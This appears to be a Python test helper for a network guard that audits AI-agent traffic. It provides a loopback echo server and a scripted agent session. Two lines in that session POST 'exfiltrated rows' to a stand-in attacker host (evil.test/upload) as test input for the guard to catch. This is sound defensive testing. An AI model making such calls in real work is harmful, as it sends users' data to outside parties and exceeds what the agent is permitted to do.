"""Helpers shared by the audit tests (a module of its own: a conftest of the same name
in another test folder would shadow it)."""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import requests

from guard.testing import RunningGuard

HERE = Path(__file__).resolve().parent
RULES = HERE / "audit-rules.yaml"


class EchoUpstream:
    """A loopback HTTP server standing in for the real world: counts connections and
    answers every request with a small JSON body."""

    def __init__(self) -> None:
        self.connections = 0
        self.requests: list[tuple[str, str]] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def setup(self) -> None:
                outer.connections += 1
                super().setup()

            def do_GET(self) -> None:
                length = int(self.headers.get("content-length") or 0)
                if length:
                    self.rfile.read(length)
                outer.requests.append((self.command, self.path))
                body = b'{"real": "world"}'
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def session(g: RunningGuard, sandbox: str | None = None) -> requests.Session:
    s = requests.Session()
    s.trust_env = False
    s.proxies = g.proxies
    s.verify = g.ca
    if sandbox:
        s.headers["X-Guard-Sandbox"] = sandbox
    return s


def agent_session(g: RunningGuard, upstream_port: int) -> None:
    """A short agent session: every kind of decision, two sandboxes."""
    a, b = session(g, "agent-a"), session(g, "agent-b")
    a.post("https://api.stripe.com/v1/customers", data={"email": "jenny@example.com"},
           headers={"Authorization": "Bearer sk_test_4eC39HqLyjWDarjtT1zdp7dc"})
    a.post("https://mail.test/send", json={"to": "boss@corp.test", "subject": "Q3 numbers",
                                           "text": "see attached"})
    a.post("https://evil.test/upload", data=b"exfiltrated rows")
    a.get(f"http://127.0.0.1:{upstream_port}/allowed/docs")
    b.get("https://unknown.example.org/")
    b.post("https://evil.test/upload", data=b"more rows")
    b.get("https://api.stripe.com/v1/customers/cus_missing",
          headers={"Authorization": "Bearer sk_test_4eC39HqLyjWDarjtT1zdp7dc"})
